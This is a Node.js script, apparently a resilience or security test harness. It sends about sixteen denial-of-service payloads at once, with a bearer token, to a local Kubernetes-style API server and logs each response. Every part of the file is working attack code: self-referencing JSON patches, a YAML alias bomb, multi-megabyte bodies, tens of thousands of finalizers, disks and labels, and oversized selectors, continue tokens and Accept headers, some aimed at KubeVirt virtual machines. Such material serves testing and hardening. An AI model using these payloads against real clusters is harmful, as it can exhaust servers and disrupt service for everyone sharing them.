// Sends costly requests to the API with a weak token, all at once, and says how each was answered.
import { request } from 'node:https';

const { port, token, name } = JSON.parse(process.env.ATTACK);
const event = `/api/v1/namespaces/default/events/${name}`;
const jsonPatch = 'application/json-patch+json';
const mergePatch = 'application/merge-patch+json';
const list = (count, of) => Array.from({ length: count }, (_, index) => of(index));
const json = JSON.stringify;
const fill = (text) => text.repeat(Math.floor((3 * 1024 * 1024) / text.length));
const made = (more) => json({ metadata: { generateName: 'attack-' }, ...more });

const attempts = {
  'copies of a value into itself': [
    'PATCH',
    event,
    jsonPatch,
    json(list(30, (index) => ({ op: 'copy', from: '/related', path: `/related/${index}` }))),
  ],
  'a test of two long lists': [
    'PATCH',
    event,
    jsonPatch,
    json([
      { op: 'add', path: '/x', value: list(100_000, (i) => i) },
      { op: 'test', path: '/x', value: list(100_000, (i) => i + 1) },
    ]),
  ],
  'ten thousand tests': [
    'PATCH',
    event,
    jsonPatch,
    json([
      { op: 'add', path: '/x', value: Object.fromEntries(list(100_000, (i) => [i, i])) },
      ...list(9_999, () => ({ op: 'test', path: '/x', value: {} })),
    ]),
  ],
  'a strategic patch of many elements': [
    'PATCH',
    event,
    'application/strategic-merge-patch+json',
    json({ metadata: { ownerReferences: list(40_000, (i) => ({ uid: `${i}` })) } }),
  ],
  'a value that is no patch': ['PATCH', event, mergePatch, fill('[')],
  'a YAML of many keys': [
    'POST',
    '/api/v1/namespaces/default/events',
    'application/yaml',
    list(200_000, (i) => `k${i}: 1`).join('\n'),
  ],
  'a YAML of commas': ['POST', '/api/v1/namespaces/default/events', 'application/yaml', `[${fill(',').slice(1)}`],
  'a YAML of itself': [
    'POST',
    '/api/v1/namespaces/default/events',
    'application/yaml',
    'a: &a [*a, *a, *a, *a, *a, *a]',
  ],
  'a JSON of many small objects': [
    'POST',
    '/api/v1/namespaces/default/events',
    'application/json',
    made({ x: list(900_000, () => ({})) }),
  ],
  'a JSON of wrong labels': [
    'POST',
    '/api/v1/namespaces/default/events',
    'application/json',
    json({ metadata: { generateName: 'a-', labels: Object.fromEntries(list(200_000, (i) => [`/${i}`, ''])) } }),
  ],
  'a VM with a quantity of many digits': [
    'PUT',
    '/apis/kubevirt.io/v1/namespaces/default/virtualmachineinstances/victim',
    'application/json',
    json({
      apiVersion: 'kubevirt.io/v1',
      kind: 'VirtualMachineInstance',
      metadata: { name: 'victim' },
      spec: { domain: { devices: {}, memory: { guest: '1'.repeat(2_000_000) } } },
    }),
  ],
  'a VM with many disks of one name': [
    'PUT',
    '/apis/kubevirt.io/v1/namespaces/default/virtualmachineinstances/victim',
    'application/json',
    json({
      apiVersion: 'kubevirt.io/v1',
      kind: 'VirtualMachineInstance',
      metadata: { name: 'victim' },
      spec: { domain: { memory: { guest: '1Gi' }, devices: { disks: list(60_000, (i) => ({ name: `d${i}` })) } } },
    }),
  ],
  'many finalizers': ['PATCH', event, mergePatch, json({ metadata: { finalizers: list(60_000, (i) => `a/f${i}`) } })],
  'a selector of many terms': ['GET', `/api/v1/namespaces/default/configmaps?labelSelector=${'a,'.repeat(7_000)}a`],
  'a continue token of nonsense': [
    'GET',
    `/api/v1/namespaces/default/configmaps?limit=1&continue=${'A'.repeat(14_000)}`,
  ],
  'a long Accept': ['GET', event, undefined, undefined, { accept: `${'a/b;q=0.1,'.repeat(1_400)}application/json` }],
};

function send([method, path, type, body, headers = {}]) {
  const startMs = performance.now();
  return new Promise((resolve) => {
    const done = (status) => resolve([status, Math.round(performance.now() - startMs)]);
    const all = { authorization: `Bearer ${token}`, ...(type ? { 'content-type': type } : {}), ...headers };
    const asking = request(
      { host: '127.0.0.1', port, path, method, headers: all, rejectUnauthorized: false },
      (answer) => {
        let bytes = 0;
        answer.on('data', (chunk) => {
          bytes += chunk.length;
        });
        answer.on('end', () => done(bytes > 2_000_000 ? `long answer of ${bytes} bytes` : answer.statusCode));
        answer.on('error', () => done('cut'));
      },
    );
    asking.setTimeout(50_000, () => asking.destroy());
    asking.on('error', (error) => done(error.code ?? 'cut'));
    asking.end(body);
  });
}

const results = await Promise.all(Object.entries(attempts).map(async ([what, attempt]) => [what, await send(attempt)]));
console.log(JSON.stringify(Object.fromEntries(results)));
process.exit(0);
